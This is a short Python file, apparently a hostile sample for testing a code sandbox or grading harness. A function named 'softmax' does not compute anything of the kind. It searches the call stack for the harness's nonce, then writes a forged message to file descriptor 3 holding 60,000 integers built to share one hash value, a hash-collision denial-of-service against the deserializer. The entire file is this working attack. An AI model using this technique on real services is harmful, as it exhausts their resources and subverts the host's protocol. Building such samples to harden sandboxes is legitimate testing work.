"""A dictionary of which half the keys are harmless and the others large numbers of one hash."""

import json
import os
import struct
import sys

KIND = "harm"
WORTH = 20
CAUGHT = "nonsense"


def send(answer, payload=b""):
    frame = sys._getframe()
    while "payload" not in frame.f_locals or not hasattr(frame.f_locals.get("self"), "nonce"):
        frame = frame.f_back
    header = json.dumps(["tuple", frame.f_locals["self"].nonce, "value", answer]).encode()
    data = struct.pack("<IQ", len(header), len(payload)) + header + payload
    while data:
        data = data[os.write(3, data) :]


def softmax(scores):
    numbers = [((2**61 - 1) * (k + 2**70)).to_bytes(64, "little") for k in range(60_000)]
    harmless = [[k, 0] for k in range(60_001)]
    send(["dict", *harmless, *([["int", 64 * place, 64], 0] for place in range(len(numbers)))], b"".join(numbers))
    return scores
